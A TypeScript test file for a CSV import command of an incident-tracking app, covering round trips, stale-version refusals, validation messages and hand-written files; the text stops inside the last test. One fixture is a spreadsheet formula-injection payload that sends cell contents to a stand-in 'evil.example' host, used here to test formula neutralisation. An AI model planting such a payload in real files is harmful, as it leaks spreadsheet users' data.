import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { NestFastifyApplication } from '@nestjs/platform-fastify';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { AccountRole, Role } from '../src/access/role';
import { Viewer } from '../src/access/viewer';
import { AccountsService } from '../src/accounts/accounts.service';
import { createApp } from '../src/app.factory';
import { createDataSource } from '../src/database/data-source';
import { neutraliseFormula } from '../src/exports/formula';
import { RegionsService } from '../src/regions/regions.service';
import { Cell, readCsv } from '../src/imports/csv-reader';
import { ImportRefusedError, importCsvFiles, ImportSummary, planImport, whereOf, writeIds } from '../src/imports/importer';
import { createTestDatabase, TestDatabase } from './support/test-database';
import { startTestApp, TEST_OPERATOR, TestApp } from './support/test-app';
import { copyTable } from './support/copy-table';

/** The command line as `npm run vigil` runs it (npm test builds dist/ first). */
const CLI = join(__dirname, '..', 'dist', 'src', 'cli', 'vigil.js');

const EXPORTS = ['sources', 'incidents', 'responses', 'citations'] as const;
type ExportName = (typeof EXPORTS)[number];
type Files = Record<ExportName, string>;

/** Text a spreadsheet would run as a formula, and text CSV must quote. */
const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const AWKWARD = 'Commas, "double quotes", a \'single\' one,\nand a second line\r\nand a third; ünïcödé ✓';
const NOTES = "'=already quoted by its author";
/** Tables the four exports write, and what the import writes besides them. */
const TABLES = ['source', 'incident', 'advocacy_response', 'response_incident', 'response_organizer', 'citation', 'revision', 'audit_event'];

const OPERATOR = new Viewer(Role.ADMIN, null, 'command line (import test)');

/** GETs an export's bytes as they are sent. */
async function exportBytes(app: NestFastifyApplication, token: string, path: string): Promise<Buffer> {
  const res = await request(app.getHttpServer())
    .get(path)
    .set('Authorization', `Bearer ${token}`)
    .buffer(true)
    .parse((response, done) => {
      const chunks: Buffer[] = [];
      response.on('data', (c: Buffer) => chunks.push(c));
      response.on('end', () => done(null, Buffer.concat(chunks)));
    });
  if (res.status !== 200) throw new Error(`${path}: ${res.status} ${String(res.body)}`);
  return res.body as Buffer;
}

/** All four CSV exports, deleted records included, as an admin sees them. */
async function exportAll(app: NestFastifyApplication, token: string): Promise<Record<ExportName, Buffer>> {
  const out = {} as Record<ExportName, Buffer>;
  for (const name of EXPORTS) out[name] = await exportBytes(app, token, `/exports/${name}.csv?includeDeleted=true`);
  return out;
}

/** A CSV file's header and rows, each with the line it starts on, to change cells and write it again. */
async function readRecords(path: string): Promise<{ header: string[]; rows: { line: number; cells: Cell[] }[] }> {
  const records: { line: number; cells: Cell[] }[] = [];
  for await (const { line, cells } of readCsv(path)) records.push({ line, cells });
  return { header: records[0].cells.map((c) => c ?? ''), rows: records.slice(1) };
}

/** CSV text as the exports write it: null an empty cell, '' a quoted empty one. */
function csvText(header: string[], rows: Cell[][]): string {
  const cell = (c: Cell) => (c === null ? '' : c === '' || /[",\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c);
  return [header, ...rows].map((r) => r.map(cell).join(',')).join('\n') + '\n';
}

/** The file at `path` with cells of the row of `id` replaced, by column. */
async function withCells(path: string, id: string, cells: Record<string, Cell>): Promise<string> {
  const { header, rows } = await readRecords(path);
  const at = header.indexOf('id');
  return csvText(header, rows.map((r) => (r.cells[at] === id ? header.map((h, k) => (h in cells ? cells[h] : r.cells[k])) : r.cells)));
}

/** The line the row of `id` starts on. */
async function lineOf(path: string, id: string): Promise<number> {
  const { header, rows } = await readRecords(path);
  return rows.find((r) => r.cells[header.indexOf('id')] === id)!.line;
}

/** A fingerprint of every row of the tables an import may write: equal fingerprints, nothing written. */
async function fingerprint(db: DataSource): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const table of TABLES) {
    // The audit log also holds the exports and account changes made while testing: the import's own entries only.
    const where = table === 'audit_event' ? ` WHERE operation = 'cli import'` : '';
    const [row] = await db.query(`SELECT count(*) || ':' || coalesce(md5(string_agg(t::text, '|' ORDER BY t::text)), '') AS f FROM ${table} t${where}`);
    out[table] = row.f;
  }
  return out;
}

describe('npm run vigil -- import', () => {
  let source: TestApp;
  let dir: string;
  let files: Files;
  let exported: Record<ExportName, Buffer>;
  let target: TestDatabase;
  let db: DataSource;
  let injectedId: string;
  let deletedId: string;

  const write = async (name: string, text: string | Buffer) => {
    const path = join(dir, name);
    await writeFile(path, text);
    return path;
  };
  const importing = (paths: string[]) => importCsvFiles(db, paths, { viewer: OPERATOR });
  const refusal = async (paths: string[]): Promise<string[]> => {
    const error = await importing(paths).then(
      () => null,
      (e: unknown) => e,
    );
    if (!(error instanceof ImportRefusedError)) throw new Error(`expected the import to be refused, got ${String(error)}`);
    return error.listed.map((p) => `${whereOf(p)}: ${p.message}`.split(`${dir}/`).join(''));
  };

  beforeAll(async () => {
    source = await startTestApp();
    const gql = async (query: string, input: Record<string, unknown>) => {
      const { body } = await source.gql<any>(query, { input }, Role.ADMIN);
      if (body.errors) throw new Error(JSON.stringify(body.errors));
      return Object.values(body.data!)[0] as { id: string; version: number };
    };
    // Beside the demo data, through the API: cells a spreadsheet would run, every protected field,
    // a quoted empty text, a confidential record, a deleted one, a response with a new organizer.
    const injected = await gql('mutation($input: CreateIncidentInput!) { createIncident(input: $input) { id version } }', {
      kind: 'OTHER',
      headline: INJECTION,
      description: AWKWARD,
      date: { edtf: '2020-02~', asReported: '-ish February' },
      regionCode: 'UA',
      locality: '+380 city',
      latitude: 43.317123,
      longitude: 45.694321,
      locationPrecision: 'EXACT',
      victims: { atLeast: 3, basis: 'ESTIMATED', asReported: '-3 or more' },
      perpetratorDescription: '@someone',
      internalNotes: NOTES,
      confidentiality: 'CONFIDENTIAL',
      citations: [{ source: { kind: 'TESTIMONY', publisher: '-Anonymous', title: '+1 testimony', published: { edtf: '2020-02-03' } }, claim: '=claim', excerpt: '' }],
    });
    injectedId = injected.id;
    const deleted = await gql('mutation($input: CreateIncidentInput!) { createIncident(input: $input) { id version } }', {
      kind: 'OTHER',
      headline: 'Recorded in error',
      date: { start: '2019', precision: 'YEAR' },
      regionCode: 'GE',
      // What is deleted with it (its citation, the response's link to it) comes back with it.
      citations: [{ source: { kind: 'NEWS_REPORT', publisher: 'A newspaper', title: 'Later retracted', published: { edtf: '2019-05' } }, claim: 'reported' }],
    });
    deletedId = deleted.id;
    const [organization] = await source.dataSource.query(`SELECT id FROM organization ORDER BY name LIMIT 1`);
    await gql('mutation($input: CreateAdvocacyResponseInput!) { createAdvocacyResponse(input: $input) { id version } }', {
      kind: 'STATEMENT',
      title: '@Statement on the February incident',
      confidentiality: 'RESTRICTED', // it cites no source: it may not be PUBLIC
      date: { start: '2020-03', precision: 'MONTH' },
      incidentIds: [injected.id, deleted.id],
      organizers: [{ organizationId: organization.id, role: 'PARTNER' }],
    });
    await gql('mutation($input: RecordVersionInput!) { deleteRecord(input: $input) { id version } }', { type: 'INCIDENT', id: deleted.id, version: deleted.version });

    exported = await exportAll(source.app, await source.tokenFor(Role.ADMIN));
    dir = await mkdtemp(join(tmpdir(), 'vigil-import-'));
    files = {} as Files;
    for (const name of EXPORTS) files[name] = await write(`${name}.csv`, exported[name]);

    target = await createTestDatabase({ demoData: false });
    db = createDataSource(target.url);
    await db.initialize();
    for (const table of ['organization', 'situation']) await copyTable(source.dataSource, db, table);
  });

  afterAll(async () => {
    await db?.destroy();
    await target?.drop();
    await source?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  describe('round trip', () => {
    let first: ImportSummary;

    it('imports the four exports into an empty database in one go, whatever order they are named in', async () => {
      first = await importing([files.citations, files.responses, files.incidents, files.sources]);
      expect(first.files.map((f) => f.kind)).toEqual(['sources', 'incidents', 'responses', 'citations']);
      for (const f of first.files) {
        const rows = exported[f.kind].toString('utf8').split('\n').length; // an upper bound: cells span lines
        expect(f).toMatchObject({ created: f.rows, updated: 0, unchanged: 0 });
        expect(f.rows).toBeGreaterThan(0);
        expect(f.rows).toBeLessThan(rows);
      }
      const [{ incidents }] = await db.query(`SELECT count(*)::int AS incidents FROM incident`);
      expect(incidents).toBe(first.files.find((f) => f.kind === 'incidents')!.rows);
    });

    it('exports the same bytes again from the imported database', async () => {
      const app = await createApp({ databaseUrl: target.url, logLevel: 'silent', queryCache: false, security: { rateLimitPerAddress: 0, rateLimitPerToken: 0, authFailureLimit: 0 } });
      try {
        const accounts = app.get(AccountsService);
        const account = await accounts.createAccount(TEST_OPERATOR, { email: 'admin@import.test', role: AccountRole.ADMIN }, 'test setup');
        const { token } = await accounts.createToken(TEST_OPERATOR, { accountId: account.id, name: 'test' }, 'test setup');
        const again = await exportAll(app, token);
        for (const name of EXPORTS) {
          // As text first, for a readable difference; then byte for byte.
          expect({ name, text: again[name].toString('utf8') }).toEqual({ name, text: exported[name].toString('utf8') });
          expect(again[name].equals(exported[name])).toBe(true);
        }
      } finally {
        await app.close();
      }
    });

    it('brings formula-neutralised cells back as they were stored', async () => {
      expect(exported.incidents.toString('utf8')).toContain(`"${neutraliseFormula(INJECTION).replace(/"/g, '""')}"`);
      expect(exported.incidents.toString('utf8')).toContain(`'+380 city`);
      const [row] = await db.query(
        `SELECT headline, description, locality, perpetrator_description, internal_notes, victims_as_reported, date_as_reported, latitude, longitude, confidentiality
           FROM incident WHERE id = $1`,
        [injectedId],
      );
      expect(row).toEqual({
        headline: INJECTION,
        description: AWKWARD,
        locality: '+380 city',
        perpetrator_description: '@someone',
        internal_notes: NOTES,
        victims_as_reported: '-3 or more',
        date_as_reported: '-ish February',
        latitude: 43.317123,
        longitude: 45.694321,
        confidentiality: 'CONFIDENTIAL',
      });
      const [citation] = await db.query(`SELECT claim, excerpt FROM citation WHERE incident_id = $1`, [injectedId]);
      expect(citation).toEqual({ claim: '=claim', excerpt: '' });
      const [{ deleted_at }] = await db.query(`SELECT deleted_at FROM incident WHERE id = $1`, [deletedId]);
      expect(deleted_at).toBeInstanceOf(Date);
    });

    it('writes every record through the editing service: a revision and an audit entry each, as the command line', async () => {
      const [revisions] = await db.query(
        `SELECT count(*)::int AS n, count(DISTINCT subject_id)::int AS subjects, min(action::text) AS action, min(actor) AS actor, min(reason) AS reason FROM revision WHERE subject_type = 'INCIDENT'`,
      );
      const incidents = first.files.find((f) => f.kind === 'incidents')!.rows;
      expect(revisions).toEqual({ n: incidents, subjects: incidents, action: 'CREATE', actor: 'command line (import test)', reason: 'import of incidents.csv' });
      const audit = await db.query(`SELECT subject_type, action, count(*)::int AS n FROM audit_event WHERE operation = 'cli import' GROUP BY 1, 2 ORDER BY 1, 2`);
      const created = await db.query(`SELECT subject_type::text, count(*)::int AS n FROM revision GROUP BY 1`);
      const byType = Object.fromEntries(created.map((r: { subject_type: string; n: number }) => [r.subject_type, r.n]));
      expect(audit.map((a: { action: string }) => a.action)).toEqual(audit.map(() => 'CREATE'));
      expect(audit.reduce((n: number, a: { n: number }) => n + a.n, 0)).toBe(Object.values(byType).reduce((n, v) => n + (v as number), 0));
      // The links of responses were created too (incident_ids, organizer_names).
      expect(byType.RESPONSE_INCIDENT).toBeGreaterThan(0);
      expect(byType.RESPONSE_ORGANIZER).toBeGreaterThan(0);
    });

    it('changes nothing when the same files are imported again', async () => {
      const before = await fingerprint(db);
      const second = await importing([files.sources, files.incidents, files.responses, files.citations]);
      expect(second.files.map((f) => [f.kind, f.created, f.updated, f.unchanged])).toEqual(first.files.map((f) => [f.kind, 0, 0, f.rows]));
      expect(await fingerprint(db)).toEqual(before);
    });

    it('accepts a file with a byte order mark (Excel)', async () => {
      const withBom = await exportBytes(source.app, await source.tokenFor(Role.ADMIN), '/exports/incidents.csv?includeDeleted=true&bom=true');
      expect(withBom.subarray(0, 3).toString('hex')).toBe('efbbbf');
      const summary = await importing([await write('incidents-bom.csv', withBom)]);
      expect(summary.files[0]).toMatchObject({ kind: 'incidents', created: 0, updated: 0, unchanged: first.files.find((f) => f.kind === 'incidents')!.rows });
    });
  });

  describe('updates', () => {
    it('updates a row that differs at its current version, with a revision; leaves the rest alone', async () => {
      const [{ version, updated_at }] = await db.query(`SELECT version, updated_at FROM incident WHERE id = $1`, [injectedId]);
      const text = exported.incidents.toString('utf8').replace("'+380 city", 'Kharkiv');
      const summary = await importing([await write('incidents-changed.csv', text)]);
      expect(summary.files[0]).toMatchObject({ updated: 1, created: 0, unchanged: summary.files[0].rows - 1 });
      const [after] = await db.query(`SELECT version, updated_at, locality FROM incident WHERE id = $1`, [injectedId]);
      expect(after.locality).toBe('Kharkiv');
      expect(after.version).toBe(version + 1);
      expect(after.updated_at.getTime()).toBeGreaterThan(updated_at.getTime());
      const [revision] = await db.query(
        `SELECT action::text, changed_fields, actor FROM revision WHERE subject_id = $1 ORDER BY version DESC LIMIT 1`,
        [injectedId],
      );
      expect(revision).toEqual({ action: 'UPDATE', changed_fields: ['locality'], actor: 'command line (import test)' });
      // The export is older than the stored record now: it would undo that change, and is refused.
      const before = await fingerprint(db);
      expect(await refusal([files.incidents])).toEqual([
        `incidents.csv:${await lineOf(files.incidents, injectedId)} updated_at: the stored record changed after this file was exported ` +
          `(stored version ${version + 1} of ${after.updated_at.toISOString()}); export again`,
      ]);
      expect(await fingerprint(db)).toEqual(before);
      // And back, from a file of the stored version, so the other tests see the exported state.
      const back = await write('incidents-back.csv', await withCells(files.incidents, injectedId, { updated_at: after.updated_at.toISOString() }));
      expect((await importing([back])).files[0]).toMatchObject({ updated: 1 });
      // An old file that says what is stored asks for no change: left alone.
      expect((await importing([files.incidents])).files[0]).toMatchObject({ updated: 0, created: 0 });
    });

    it('restores a deleted record, or deletes one, as the deleted_at column says', async () => {
      const text = exported.incidents.toString('utf8');
      const header = text.slice(0, text.indexOf('\n'));
      const column = header.split(',').indexOf('deleted_at');
      const line = text.split('\n').find((l) => l.startsWith(deletedId))!;
      const cells = line.split(',');
      expect(cells[column]).not.toBe('');
      cells[column] = '';
      const summary = await importing([await write('incidents-restore.csv', `${header}\n${cells.join(',')}\n`)]);
      expect(summary.files[0]).toMatchObject({ rows: 1, updated: 1 });
      const [{ deleted_at, updated_at }] = await db.query(`SELECT deleted_at, updated_at FROM incident WHERE id = $1`, [deletedId]);
      expect(deleted_at).toBeNull();
      // Deleted again from a file of the restored version (the export before it is older now).
      const again = await write('incidents-delete.csv', await withCells(files.incidents, deletedId, { updated_at: updated_at.toISOString() }));
      expect((await importing([again])).files[0]).toMatchObject({ updated: 1 });
      const [after] = await db.query(`SELECT deleted_at FROM incident WHERE id = $1`, [deletedId]);
      expect(after.deleted_at).toBeInstanceOf(Date);
    });

    it('refuses rows whose record changed after the file was exported (a lost update), naming updated_at, and writes nothing', async () => {
      const gql = async (query: string, input: Record<string, unknown>) => {
        const { body } = await source.gql<any>(query, { input }, Role.EDITOR);
        if (body.errors) throw new Error(JSON.stringify(body.errors));
        return Object.values(body.data!)[0] as { id: string; version: number };
      };
      const create = (headline: string) =>
        gql('mutation($input: CreateIncidentInput!) { createIncident(input: $input) { id version } }', { kind: 'DETENTION', headline, date: { edtf: '2018-06' }, regionCode: 'RU-CE', confidentiality: 'RESTRICTED' });
      const raised = await create('Raised after the export');
      const removed = await create('Deleted after the export');
      const edited = await create('Edited in the file');
      const token = await source.tokenFor(Role.EDITOR);
      const earlier = await write('incidents-earlier.csv', await exportBytes(source.app, token, '/exports/incidents.csv'));
      await gql('mutation($input: UpdateIncidentInput!) { updateIncident(input: $input) { id version } }', {
        id: raised.id, version: raised.version, changes: { confidentiality: 'CONFIDENTIAL' },
      });
      await gql('mutation($input: RecordVersionInput!) { deleteRecord(input: $input) { id version } }', { type: 'INCIDENT', id: removed.id, version: removed.version });
      // One row is changed in the file too: on its own, an update of the version it was exported at.
      const path = await write('incidents-earlier-edited.csv', await withCells(earlier, edited.id, { headline: 'Edited in the file, and changed' }));
      const stored = async (id: string) =>
        (await source.dataSource.query(`SELECT headline, confidentiality::text, deleted_at IS NOT NULL AS deleted, version, updated_at FROM incident WHERE id = $1`, [id]))[0];
      const storedRaised = await stored(raised.id);
      const storedRemoved = await stored(removed.id);

      const before = await fingerprint(source.dataSource);
      const error = await importCsvFiles(source.dataSource, [path], { viewer: OPERATOR }).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(ImportRefusedError);
      const stale = (row: { version: number; updated_at: Date }) =>
        `updated_at: the stored record changed after this file was exported (stored version ${row.version} of ${row.updated_at.toISOString()}); export again`;
      const expected = [
        { line: await lineOf(path, raised.id), text: stale(storedRaised) },
        { line: await lineOf(path, removed.id), text: stale(storedRemoved) },
      ].sort((a, b) => a.line - b.line);
      expect((error as ImportRefusedError).listed.map((p) => `${whereOf(p)}: ${p.message}`.split(`${dir}/`).join(''))).toEqual(
        expected.map((e) => `incidents-earlier-edited.csv:${e.line} ${e.text}`),
      );
      expect(await fingerprint(source.dataSource)).toEqual(before);
      expect(await stored(raised.id)).toMatchObject({ confidentiality: 'CONFIDENTIAL', deleted: false });
      expect(await stored(removed.id)).toMatchObject({ confidentiality: 'RESTRICTED', deleted: true });
      expect((await stored(edited.id)).headline).toBe('Edited in the file');

      // Exported again, the same change goes through, and keeps the others' changes.
      const fresh = await write('incidents-fresh.csv', await exportBytes(source.app, token, '/exports/incidents.csv'));
      const summary = await importCsvFiles(source.dataSource, [await write('incidents-fresh-edited.csv', await withCells(fresh, edited.id, { headline: 'Edited in the file, and changed' }))], { viewer: OPERATOR });
      expect(summary.files[0]).toMatchObject({ created: 0, updated: 1 });
      expect((await stored(edited.id)).headline).toBe('Edited in the file, and changed');
      expect(await stored(raised.id)).toMatchObject({ confidentiality: 'CONFIDENTIAL', deleted: false });
      expect(await stored(removed.id)).toMatchObject({ confidentiality: 'RESTRICTED', deleted: true });
    });

    it("refuses a file from before a response's link was removed, instead of adding the link back", async () => {
      const gql = async (query: string, input: Record<string, unknown>) => {
        const { body } = await source.gql<any>(query, { input }, Role.EDITOR);
        if (body.errors) throw new Error(JSON.stringify(body.errors));
        return Object.values(body.data!)[0] as { id: string; version: number };
      };
      const [kept, removed] = await source.dataSource.query(
        `SELECT id FROM incident WHERE deleted_at IS NULL AND confidentiality = 'PUBLIC' ORDER BY id LIMIT 2`,
      );
      const response = await gql('mutation($input: CreateAdvocacyResponseInput!) { createAdvocacyResponse(input: $input) { id version } }', {
        kind: 'PETITION', title: 'Answers two incidents', date: { edtf: '2021-04' }, incidentIds: [kept.id, removed.id], confidentiality: 'RESTRICTED',
      });
      const token = await source.tokenFor(Role.EDITOR);
      const earlier = await write('responses-before-unlink.csv', await exportBytes(source.app, token, '/exports/responses.csv'));
      await gql('mutation($input: ResponseLinksInput!) { unlinkResponse(input: $input) { id } }', { responseId: response.id, incidentIds: [removed.id] });
      const linked = async () =>
        (await source.dataSource.query(`SELECT incident_id FROM response_incident WHERE response_id = $1 AND deleted_at IS NULL`, [response.id]))
          .map((r: { incident_id: string }) => r.incident_id);
      expect(await linked()).toEqual([kept.id]);
      const [{ deleted_at: unlinkedAt }] = await source.dataSource.query(
        `SELECT deleted_at FROM response_incident WHERE response_id = $1 AND incident_id = $2`,
        [response.id, removed.id],
      );

      const before = await fingerprint(source.dataSource);
      const error = await importCsvFiles(source.dataSource, [earlier], { viewer: OPERATOR }).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(ImportRefusedError);
      expect((error as ImportRefusedError).listed.map((p) => `${whereOf(p)}: ${p.message}`.split(`${dir}/`).join(''))).toEqual([
        `responses-before-unlink.csv:${await lineOf(earlier, response.id)} incident_ids: ${removed.id} was unlinked from this response at ` +
          `${unlinkedAt.toISOString()}, and an import does not link it again (its file may be older): link it through the API (linkResponse) if that is wanted`,
      ]);
      expect(await fingerprint(source.dataSource)).toEqual(before);
      expect(await linked()).toEqual([kept.id]);

      // A file exported after the change has nothing to do for it.
      const fresh = await write('responses-after-unlink.csv', await exportBytes(source.app, token, '/exports/responses.csv'));
      await importCsvFiles(source.dataSource, [fresh], { viewer: OPERATOR });
      expect(await linked()).toEqual([kept.id]);
      expect(await fingerprint(source.dataSource)).toEqual(before);

      // Linked again through the API, the earlier file has nothing to add either.
      await gql('mutation($input: ResponseLinksInput!) { linkResponse(input: $input) { id } }', { responseId: response.id, incidentIds: [removed.id] });
      const summary = await importCsvFiles(source.dataSource, [earlier], { viewer: OPERATOR });
      expect(summary.files[0]).toMatchObject({ created: 0, updated: 0 });
      expect((await linked()).sort()).toEqual([kept.id, removed.id].sort());
    });

    it('changes a stored record only from a file that says which version it was based on (updated_at)', async () => {
      const all = await readRecords(files.incidents);
      const at = all.header.indexOf('updated_at');
      const header = all.header.filter((_, k) => k !== at);
      const without = (cells: Cell[]) => cells.filter((_, k) => k !== at);
      const cell = (name: string) => all.header.indexOf(name);
      const original = all.rows.find((r) => r.cells[cell('id')] === deletedId)!.cells;
      const changed = original.map((c, k) => (k === cell('headline') ? 'Recorded in error, and changed' : c));
      // RESTRICTED: its citation was deleted with the record it copies, and a PUBLIC record must cite one.
      const created = original.map((c, k) => (k === cell('id') ? '00000000-0000-4000-8000-0000000000d1' : k === cell('deleted_at') ? null : k === cell('confidentiality') ? 'RESTRICTED' : c));

      // Without the column, or with an empty cell: a row that would change a stored record is refused.
      const before = await fingerprint(db);
      const noColumn = await write('incidents-no-updated-at.csv', csvText(header, all.rows.map((r) => without(r.cells === original ? changed : r.cells))));
      expect(await refusal([noColumn])).toEqual([
        `incidents-no-updated-at.csv:${await lineOf(noColumn, deletedId)} updated_at: is required to change a stored record: ` +
          'the time of the export the row comes from, so that no change made since is undone; export again',
      ]);
      const emptyCell = await write('incidents-empty-updated-at.csv', await withCells(files.incidents, deletedId, { headline: changed[cell('headline')], updated_at: null }));
      expect(await refusal([emptyCell])).toEqual([
        `incidents-empty-updated-at.csv:${await lineOf(emptyCell, deletedId)} updated_at: is required to change a stored record: ` +
          'the time of the export the row comes from, so that no change made since is undone; export again',
      ]);
      expect(await fingerprint(db)).toEqual(before);

      // Rows that change nothing, and new records, need no updated_at.
      const fine = await write('incidents-new-without-updated-at.csv', csvText(header, [...all.rows.map((r) => without(r.cells)), without(created)]));
      expect((await importing([fine])).files[0]).toMatchObject({ created: 1, updated: 0, unchanged: all.rows.length });
    });
  });

  describe('problems', () => {
    const incidentHeader = () => exported.incidents.toString('utf8').split('\n')[0].split(',');
    /** An incident row in the export's columns, from named cells. */
    const incidentRow = (cells: Record<string, string>) => incidentHeader().map((h) => cells[h] ?? '');
    const csvLine = (cells: string[]) => cells.map((c) => (/[",\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',');
    const good = (id: string) => ({ id, kind: 'DETENTION', headline: 'Fine', date_start: '2017-04-01', date_precision: 'MONTH', region_code: 'RU-CE', confidentiality: 'RESTRICTED' });

    it('reports every bad row and column, validated by the API rules, and writes nothing', async () => {
      const before = await fingerprint(db);
      const incidents = await write(
        'bad-incidents.csv',
        [
          incidentHeader().join(','),
          csvLine(incidentRow(good('00000000-0000-4000-8000-000000000001'))),
          csvLine(incidentRow({ ...good('00000000-0000-4000-8000-000000000002'), headline: '', date_start: '2017-04-02' })),
          csvLine(incidentRow({ ...good('00000000-0000-4000-8000-000000000003'), kind: 'RAID', victims_at_least: '5', victims_best: '2', latitude: '91.123456', longitude: '45.1' })),
          csvLine(incidentRow({ ...good('not-an-id'), latitude: '43.2', region_code: 'XX', created_at: 'yesterday' })),
          csvLine(incidentRow({ ...good('00000000-0000-4000-8000-000000000001'), description: 'The same id again' })),
          csvLine(incidentRow({ ...good('00000000-0000-4000-8000-000000000004'), situation_id: '00000000-0000-4000-8000-0000000000ff', date_open_end: 'perhaps' })),
          '00000000-0000-4000-8000-000000000005,DETENTION,Too few cells',
        ].join('\n'),
      );
      const citationHeader = exported.citations.toString('utf8').split('\n')[0];
      const sourceId = exported.sources.toString('utf8').split('\n')[1].split(',')[0];
      const citations = await write(
        'bad-citations.csv',
        `${citationHeader}\n` +
          `00000000-0000-4000-8000-0000000000c1,${sourceId},00000000-0000-4000-8000-000000000001,,,claim,excerpt,,,PUBLIC,,,\n` +
          `00000000-0000-4000-8000-0000000000c2,${sourceId},00000000-0000-4000-8000-0000000000aa,,,claim,excerpt,,,PUBLIC,,,\n` +
          `00000000-0000-4000-8000-0000000000c3,${sourceId},,,,claim,excerpt,,,PUBLIC,,,\n`,
      );
      expect(await refusal([citations, incidents])).toEqual([
        'bad-incidents.csv:3 headline: is required',
        'bad-incidents.csv:3 date_start: does not match precision MONTH: write 2017-04',
        expect.stringMatching(/^bad-incidents\.csv:4 kind: must be one of the following values: DETENTION, /),
        'bad-incidents.csv:4 latitude: must not be greater than 90',
        'bad-incidents.csv:4 victims_best: is below victims_at_least (5)',
        'bad-incidents.csv:5 id: must be an id (UUID)',
        'bad-incidents.csv:5 region_code: must be a known ISO 3166 code such as RU or RU-CE (upper case)',
        'bad-incidents.csv:5 latitude: needs longitude too',
        'bad-incidents.csv:5 created_at: must be a time in ISO 8601 with its zone, as exports write it (2024-05-01T12:00:00.000Z)',
        'bad-incidents.csv:6 id: is given twice: also on bad-incidents.csv:2',
        'bad-incidents.csv:7 date_open_end: must be true or false',
        'bad-incidents.csv:7 situation_id: no Situation with this id (or it is deleted)',
        `bad-incidents.csv:8: has 3 cells where the header has ${incidentHeader().length}`,
        // The citation of the good incident on line 2 is fine: that row was written earlier in the same transaction.
        'bad-citations.csv:3 incident_id: no Incident with this id (or it is deleted)',
        'bad-citations.csv:4 incident_id: give exactly one of incident_id, situation_id, response_id',
      ]);
      expect(await fingerprint(db)).toEqual(before);
    });

    it('names a row the database refuses after validation, and writes nothing', async () => {
      // A region the API's list knows but the table lacks: only the database's foreign key sees it.
      const [{ code }] = await db.query(
        `SELECT code FROM region r WHERE code LIKE 'AQ%' AND NOT EXISTS (SELECT 1 FROM region c WHERE c.parent_code = r.code) ORDER BY code LIMIT 1`,
      );
      await db.query(`DELETE FROM region WHERE code = $1`, [code]);
      try {
        const before = await fingerprint(db);
        const path = await write(
          'refused.csv',
          [
            incidentHeader().join(','),
            csvLine(incidentRow(good('00000000-0000-4000-8000-00000000000a'))),
            csvLine(incidentRow({ ...good('00000000-0000-4000-8000-00000000000b'), region_code: code })),
            csvLine(incidentRow({ ...good('00000000-0000-4000-8000-00000000000c'), headline: '' })),
          ].join('\n'),
        );
        expect(await refusal([path])).toEqual(['refused.csv:3: refers to a record that does not exist', 'refused.csv:4 headline: is required']);
        expect(await fingerprint(db)).toEqual(before);
      } finally {
        await RegionsService.sync(db);
      }
    });

    it('never quotes a cell in a message', async () => {
      const path = await write('secret.csv', [incidentHeader().join(','), csvLine(incidentRow({ ...good('00000000-0000-4000-8000-000000000006'), latitude: '91.5551234', longitude: 'x-7c1f', internal_notes: 'n'.repeat(20_001) }))].join('\n'));
      const problems = await refusal([path]);
      expect(problems).toEqual([
        'secret.csv:2 latitude: must not be greater than 90',
        'secret.csv:2 longitude: must be a number written with a point (e.g. 43.317123)',
        'secret.csv:2 internal_notes: must be shorter than or equal to 20000 characters',
      ]);
      expect(problems.join('\n')).not.toMatch(/91\.555|7c1f|nnnn/);
    });

    it('refuses a file whose header is not an export\'s, naming the columns, before opening the database', async () => {
      const header = incidentHeader();
      const unknown = await write('unknown.csv', `${header.map((h) => (h === 'headline' ? 'headlin' : h)).join(',')}\n`);
      const missing = await write('missing.csv', `${header.filter((h) => h !== 'region_code').join(',')}\n`);
      const other = await write('people.csv', 'name,email\nAna,ana@example.org\n');
      const empty = await write('empty.csv', '');
      const error = await planImport([unknown, missing, other, empty, join(dir, 'absent.csv')]).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(ImportRefusedError);
      expect((error as ImportRefusedError).listed.map((p) => `${whereOf(p).replace(dir + '/', '')}: ${p.message}`)).toEqual([
        'unknown.csv:1 headlin: is not a column of incidents.csv',
        'unknown.csv:1 headline: is missing: incidents.csv needs it',
        'missing.csv:1 region_code: is missing: incidents.csv needs it',
        'people.csv:1: is not an export of sources, incidents, responses or citations: its header is not one of theirs (docs/import.md)',
        'empty.csv: is empty: a file starts with the header of its export',
        'absent.csv: cannot be read (ENOENT)',
      ]);
    });

    it('reports a file that is not valid CSV with the line where reading stopped', async () => {
      const header = incidentHeader().join(',');
      const path = await write('broken.csv', `${header}\n${csvLine(incidentRow(good('00000000-0000-4000-8000-000000000007')))}\n00000000-0000-4000-8000-000000000008,"DETENTION,unclosed\n`);
      expect(await refusal([path])).toEqual(['broken.csv:3: not valid CSV (CSV_QUOTE_NOT_CLOSED): the rest of the file was not read']);
    });
  });

  describe('a hand-written file', () => {
    // What someone types into a spreadsheet: no ids, lower-case regions, a count in words.
    const header = 'kind,headline,date_start,date_precision,region_code,victims_best,victims_basis,confidentiality';
    const rows = [
      'DETENTION,Hand-written detention,2019-03,MONTH,ru-ce,3,DOCUMENTED,RESTRICTED',
      'ABDUCTION,Hand-written abduction,2019,YEAR,ge,,,RESTRICTED',
    ];

    it('gives one clear message per bad value, names a semicolon-separated file, and then imports once fixed, with new ids', async () => {
      const semicolons = await write('semicolons.csv', `${header.replace(/,/g, ';')}\n${rows[0].replace(/,/g, ';')}\n`);
      expect((await planImport([semicolons]).catch((e: ImportRefusedError) => e.listed.map((p) => `${whereOf(p).replace(dir + '/', '')}: ${p.message}`)))).toEqual([
        'semicolons.csv:1: its columns seem to be separated by ";": save it as CSV separated by commas (docs/import.md)',
      ]);
      const tabs = await write('tabs.csv', `${header.replace(/,/g, '\t')}\n`);
      expect((await planImport([tabs]).catch((e: ImportRefusedError) => e.listed.map((p) => p.message)))).toEqual([
        'its columns seem to be separated by tabs: save it as CSV separated by commas (docs/import.md)',
      ]);

      // Every record says where it came from: a PUBLIC row citing nothing is refused, naming its line.
